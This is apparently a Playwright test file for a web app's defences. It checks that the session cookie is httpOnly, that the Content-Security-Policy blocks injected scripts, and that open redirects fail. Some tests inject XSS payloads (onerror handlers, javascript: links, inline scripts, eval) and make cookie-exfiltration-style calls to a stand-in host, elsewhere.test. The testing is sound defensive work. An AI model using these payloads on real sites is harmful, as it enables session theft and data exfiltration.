import type { Page, Request } from '@playwright/test';
import { expect, signIn, signInByApi, test, testAllowingErrors } from './fixtures.ts';

/** Everything a script of the page can read: cookies, stores, caches, the document and global values. */
const readable = (page: Page): Promise<string> =>
  page.evaluate(async () => {
    const stored: unknown[] = [document.cookie, { ...localStorage }, { ...sessionStorage }];
    for (const { name = '' } of await indexedDB.databases()) {
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        const opening = indexedDB.open(name);
        opening.onsuccess = () => resolve(opening.result);
        opening.onerror = () => reject(opening.error);
      });
      for (const store of db.objectStoreNames)
        stored.push(
          await new Promise((resolve) => {
            const reading = db.transaction(store).objectStore(store).getAll();
            reading.onsuccess = () => resolve(reading.result);
          }),
        );
      db.close();
    }
    for (const name of await caches.keys())
      for (const response of await (await caches.open(name)).matchAll()) stored.push(await response.text());
    const globals = Object.entries(window).filter(([, value]) => ['string', 'number'].includes(typeof value));
    return JSON.stringify([stored, globals, document.documentElement.outerHTML]);
  });

test('a script of the page cannot read the session token', async ({ page }) => {
  await signIn(page, 'customer');
  await expect(page.getByRole('heading', { level: 1, name: /^Hello/ })).toBeVisible();
  const cookies = await page.context().cookies();
  const session = cookies.find(({ name }) => name === 'wholebowl');
  expect(session).toMatchObject({ httpOnly: true, sameSite: 'Lax', path: '/' });
  const found = await readable(page);
  expect(found).toContain('XSRF-TOKEN');
  expect(found).not.toContain(session?.value);
});

testAllowingErrors(
  'an injected script does not run, and nothing is sent to another host',
  async ({ page }) => {
    await signInByApi(page, 'customer');
    await page.goto('/account/home');
    await expect(page.getByRole('heading', { level: 1, name: /^Hello/ })).toBeVisible();
    const requests: Request[] = [];
    page.on('request', (request) => void requests.push(request));
    const outcome = await page.evaluate(async () => {
      const blocked = new Set<string>();
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        blocked.add(effectiveDirective),
      );
      const box = document.createElement('div');
      box.innerHTML = `<img src="x:" onerror="window.stolen = 1"><img src="https://elsewhere.test/?cookie">
      <form action="https://elsewhere.test/" id="sent"></form><a href="javascript:window.stolen = 1" id="link"></a>`;
      document.body.append(box);
      const script = document.createElement('script');
      script.textContent = 'window.stolen = 1';
      document.body.append(script);
      document.getElementById('link')?.click();
      (document.getElementById('sent') as HTMLFormElement).submit();
      const sent = await fetch('https://elsewhere.test/').then(
        () => true,
        () => false,
      );
      // Later, because the policy does not bind the tool that calls this function.
      const evaluated = await new Promise((resolve) =>
        setTimeout(() => {
          try {
            // biome-ignore lint/security/noGlobalEval: the policy must refuse it.
            resolve(globalThis.eval('true'));
          } catch {
            resolve(false);
          }
        }, 200),
      );
      return { sent, evaluated, ran: 'stolen' in window, blocked: [...blocked].sort() };
    });
    expect(outcome).toMatchObject({ sent: false, evaluated: false, ran: false });
    expect(outcome.blocked).toEqual(
      expect.arrayContaining(['connect-src', 'form-action', 'img-src', 'script-src-attr', 'script-src-elem']),
    );
    const foreign = requests.filter((request) => request.url().includes('elsewhere.test'));
    // The browser reports what it refuses to send as a request.
    for (const request of foreign) await expect.poll(() => request.failure()?.errorText).toBe('csp');
  },
);

test('a link with another site in it leads nobody there', async ({ page, expectRefusal }) => {
  expectRefusal('/api/email/verify', 422);
  const elsewhere = encodeURIComponent('https://elsewhere.test/account/home');
  await page.goto(`/login?verification_url=${elsewhere}&next=${elsewhere}`);
  await page.getByLabel('Email').waitFor();
  const home = new URL(page.url()).origin;
  await page.keyboard.press('Escape');
  await page.getByLabel('Email').fill('customer@demo.test');
  await page.getByLabel('Password', { exact: true }).fill('wholebowl-demo');
  await page.keyboard.press('Enter');
  await expect(page).toHaveURL(`${home}/account/home`);
  await page.goto(`/login?next=${encodeURIComponent('//elsewhere.test/account/home')}`);
  await expect(page).toHaveURL(`${home}/account/home`);
});
